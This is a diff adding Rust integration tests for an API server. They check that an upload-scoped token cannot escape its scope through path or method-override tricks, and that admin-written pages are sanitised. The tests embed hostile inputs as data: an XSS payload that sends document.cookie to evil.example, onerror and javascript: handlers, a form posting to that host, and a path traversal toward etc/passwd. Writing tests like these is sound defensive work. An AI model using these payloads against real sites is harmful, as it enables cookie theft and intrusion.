@@ -274,3 +274,84 @@ async fn cookies_are_not_fixed_nor_borrowed() {
     nobody.send(out.header("origin", server.url())).await.ok();
     assert_eq!(nobody.send(me(session)).await.status, 401, "a session that was ended is void");
 }
+
+#[tokio::test]
+async fn a_token_with_a_purpose_serves_no_other() {
+    let server = Server::start();
+    let make = |scopes: &str, more: &[&str]| {
+        let created =
+            server.commands().run(&[&["token", "create", "--account", "ops", "--scopes", scopes], more].concat());
+        assert!(created.success, "{created:?}");
+        Client::new(server.url(), Some(created.stdout.trim()))
+    };
+    let sender = make("upload", &["--admin", "--days", "1"]);
+    // It does what it is for, as the client of all that send does it.
+    let set = sender.make_set(&json!({ "title": "walk", "estimated_nb_files": 1 })).await;
+    assert_eq!(sender.send_file(&set, "a.jpg", Photo::of_walk(0)).await.status, 202);
+    let state = sender.ready(&set).await;
+    let item = sender.items(&state).await.remove(0);
+    let picture = format!("/api/pictures/{}", text(&item, "/id"));
+    sender.get("/api/users/me").await.ok();
+    // Slashes, capitals and disguises lead nowhere else.
+    for (method, path) in [
+        (Method::PATCH, picture.clone()),
+        (Method::PATCH, format!("{picture}/")),
+        (Method::DELETE, format!("/api/upload_sets/{}", set.0)),
+        (Method::DELETE, format!("/api/upload_sets/{}/", set.0)),
+        (Method::POST, "/api/edits".to_owned()),
+        (Method::POST, "/api/users/me/tokens".to_owned()),
+        (Method::POST, "/api/users/me/tokens/".to_owned()),
+        (Method::GET, "/api/users/me/tokens".to_owned()),
+        (Method::PATCH, "/api/users/me".to_owned()),
+        (Method::PUT, "/api/pages/custom-banner/en".to_owned()),
+        (Method::PUT, "/api/configuration/excluded_areas".to_owned()),
+        (Method::POST, "/api/auth/logins".to_owned()),
+    ] {
+        let request = sender.request(method.clone(), &path).json(&json!({ "heading": 7 }));
+        let disguised = request.try_clone().unwrap().header("x-http-method-override", "GET");
+        for request in [request, disguised] {
+            let answer = sender.send(request).await;
+            assert_eq!(answer.status, 403, "{method} {path}: {answer}");
+        }
+    }
+    for path in ["/api//users/me/tokens", "/api/users/me/%74okens", "/api/users/./me/tokens", "/api/USERS/me/tokens"] {
+        let answer = sender.get(path).await;
+        assert!(matches!(answer.status, 403 | 404), "{path}: {answer}");
+    }
+    let session = sender.post("/api/auth/session", &json!({ "token": server.commands().token("ops") })).await;
+    assert_eq!(session.status, 403, "not even with another token in hand: {session}");
+    // Its account is an administrator's; it is none.
+    assert_eq!(text(&sender.json("/api/users/me").await, "/permissions/role"), "user");
+    assert_eq!(sender.get("/api/admin/reports/stats").await.status, 403);
+    assert!(!server.commands().run(&["token", "create", "--account", "ops", "--scopes", "everything"]).success);
+}
+
+#[tokio::test]
+async fn a_page_that_was_written_with_bad_intent_is_harmless() {
+    let server = Server::start();
+    let admin = server.admin();
+    let evil = "<h1>Terms</h1><script>fetch('https://evil.example/'+document.cookie)</script><img src=x onerror=alert(1)>\
+                <a href=\"javascript:alert(1)\">a</a><form action=\"https://evil.example\"><input name=token></form>\
+                <iframe srcdoc=\"<script>alert(1)</script>\"></iframe><style>*{display:none}</style>";
+    let write =
+        admin.request(Method::PUT, "/api/pages/terms-of-service/en").header("content-type", "text/html").body(evil);
+    admin.send(write).await.ok();
+    let page = server.anonymous().get("/api/pages/terms-of-service/en").await.ok();
+    let body = String::from_utf8(page.body.clone()).unwrap();
+    assert!(body.starts_with("<h1>Terms</h1>"), "{body}");
+    for bad in ["script", "onerror", "javascript:", "<form", "<input", "<iframe", "<style", "evil.example"] {
+        assert!(!body.contains(bad), "{bad}: {body}");
+    }
+    assert!(page.header("content-security-policy").contains("sandbox"), "{:?}", page.headers);
+    assert_eq!(page.header("x-content-type-options"), "nosniff");
+    // Only administrators write; a name is no path.
+    let bob = server.account("bob");
+    for path in [
+        "/api/pages/terms-of-service/en",
+        "/api/pages/..%2f..%2fetc%2fpasswd/en",
+        "/api/pages/terms-of-service/..%2fen",
+    ] {
+        let answer = bob.send(bob.request(Method::PUT, path).header("content-type", "text/html").body("x")).await;
+        assert!(matches!(answer.status, 403 | 404), "{path}: {answer}");
+    }
+}
